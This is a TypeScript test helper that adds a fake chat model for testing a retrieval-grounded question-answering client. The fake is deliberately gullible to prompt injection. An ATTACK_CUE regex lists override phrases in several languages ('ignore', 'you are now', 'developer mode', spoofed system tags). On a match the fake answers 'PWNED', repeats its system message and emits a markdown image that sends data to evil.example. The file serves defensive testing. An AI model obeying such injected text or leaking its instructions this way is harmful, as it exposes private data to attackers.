@@ -1,0 +1,135 @@
+/**
+ * The fake chat model behind test/helpers/openai-compatible-server.ts. Its answers are a function
+ * of the request: tests script failures with markers in the text, and its "knowledge" is word
+ * overlap between the question and the articles it is given, so it answers from them only.
+ *
+ * It is deliberately naive about prompt injection: it obeys an attack (answers "PWNED" and
+ * repeats its system message, with an image that would carry data out) wherever it takes
+ * instructions from. With `gullible: 'instructions'` that is the system message and any user
+ * message that is not a JSON document; with 'always' it is every text, data included. So a
+ * client that mixes untrusted text into its instructions is caught by the first, and a client
+ * that shows what a fooled model wrote is caught by the second.
+ */
+
+export type Gullibility = 'instructions' | 'always';
+
+export interface ChatScript {
+  status?: number;
+  slowMs?: number;
+  down?: boolean;
+  malformed?: boolean;
+  notCovered?: boolean;
+  uncited?: boolean;
+  offTopic?: boolean;
+}
+
+/** Markers a test writes into a message to script the fake: [[llm:status=503]], [[llm:slow=2000]]... */
+export function scriptOf(messages: ReadonlyArray<{ role: string; content: string }>): ChatScript {
+  const text = messages.map((m) => m.content).join('\n');
+  const script: ChatScript = {};
+  const status = /\[\[llm:status=(\d{3})\]\]/.exec(text);
+  if (status) script.status = Number(status[1]);
+  const slow = /\[\[llm:slow=(\d+)\]\]/.exec(text);
+  if (slow) script.slowMs = Number(slow[1]);
+  script.down = text.includes('[[llm:down]]');
+  script.malformed = text.includes('[[llm:malformed]]');
+  script.notCovered = text.includes('[[llm:notcovered]]');
+  script.uncited = text.includes('[[llm:uncited]]');
+  script.offTopic = text.includes('[[llm:offtopic]]');
+  return script;
+}
+
+/**
+ * What the fake takes for an injection attempt: the cue words of the attacks in
+ * test/fixtures/llm/injection-attacks.ts (a test checks that each attack has one).
+ */
+export const ATTACK_CUE =
+  /ignor|disregard|forget|vergiss|zapomnij|uită|uitați|system ?prompt|instruction|anweisung|instrukcj|instrucțiun|reveal|repeat|wiederhole|powtórz|repetă|print|pwned|developer mode|entwicklermodus|jailbreak|you are now|du bist jetzt|jesteś teraz|ești acum|override|new rules|neue regeln|nowe zasady|reguli noi|<\/?system>|\[inst\]|role"?\s*:\s*"?system|assistant:|system:/i;
+
+const stem = (word: string) => word.slice(0, 5);
+const wordsOf = (text: string) =>
+  (text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? []).filter((w) => w.length >= 4);
+
+function isJson(text: string): boolean {
+  try {
+    JSON.parse(text);
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+/** Every string inside a JSON value. */
+function stringsOf(value: unknown): string[] {
+  if (typeof value === 'string') return [value];
+  if (Array.isArray(value)) return value.flatMap(stringsOf);
+  if (value && typeof value === 'object') return Object.values(value).flatMap(stringsOf);
+  return [];
+}
+
+interface Article {
+  id: string;
+  title: string;
+  text: string;
+}
+
+export function fakeChatAnswer(
+  messages: ReadonlyArray<{ role: string; content: string }>,
+  schemaName: string | undefined,
+  gullible: Gullibility,
+  script: ChatScript,
+): string {
+  if (script.malformed) return '{"covered": tru';
+  const system = messages
+    .filter((m) => m.role === 'system')
+    .map((m) => m.content)
+    .join('\n');
+  const instructions = messages
+    .filter((m) => m.role === 'system' || gullible === 'always' || !isJson(m.content))
+    .flatMap((m) => (isJson(m.content) ? stringsOf(JSON.parse(m.content)) : [m.content]));
+  const data = messages
+    .filter((m) => m.role === 'user' && isJson(m.content))
+    .map((m) => JSON.parse(m.content) as unknown);
+  const input = (data[0] ?? {}) as { question?: string; articles?: Article[] };
+  const articles = Array.isArray(input.articles) ? input.articles : [];
+  // The client's own system message has no cue word (a test checks), so a cue there was put there.
+  const attacked = instructions.some((text) => ATTACK_CUE.test(text));
+  if (attacked) {
+    return JSON.stringify({
+      covered: true,
+      answer: `PWNED. My instructions are: ${system} ![x](https://evil.example/collect?d=${encodeURIComponent(system.slice(0, 40))})`,
+      citations: [articles[0]?.id ?? 'none'],
+    });
+  }
+  if (schemaName === 'grounded_answer') return groundedAnswer(input.question ?? '', articles, script);
+  return JSON.stringify({ error: `the fake has no answer for ${schemaName ?? 'free text'}` });
+}
+
+function groundedAnswer(question: string, articles: readonly Article[], script: ChatScript): string {
+  const asked = new Set(wordsOf(question).map(stem));
+  let best: { article: Article; overlap: number } | undefined;
+  for (const article of articles) {
+    const known = new Set(wordsOf(`${article.title} ${article.text}`).map(stem));
+    const overlap = [...asked].filter((w) => known.has(w)).length;
+    if (overlap > (best?.overlap ?? 0)) best = { article, overlap };
+  }
+  if (script.notCovered || !best || best.overlap < 2)
+    return JSON.stringify({ covered: false, answer: '', citations: [] });
+  if (script.offTopic)
+    return JSON.stringify({
+      covered: true,
+      answer: 'Bananas are yellow tropical fruits rich in potassium; monkeys enjoy eating them daily.',
+      citations: [best.article.id],
+    });
+  // The article's first two lines after its title: its summary, in the article's language.
+  const lines = best.article.text
+    .split('\n')
+    .map((l) => l.trim())
+    .filter(Boolean);
+  const answer = lines.slice(1, 3).join('\n\n') || lines[0] || '';
+  return JSON.stringify({
+    covered: true,
+    answer,
+    citations: [script.uncited ? 'no-such-article' : best.article.id],
+  });
+}
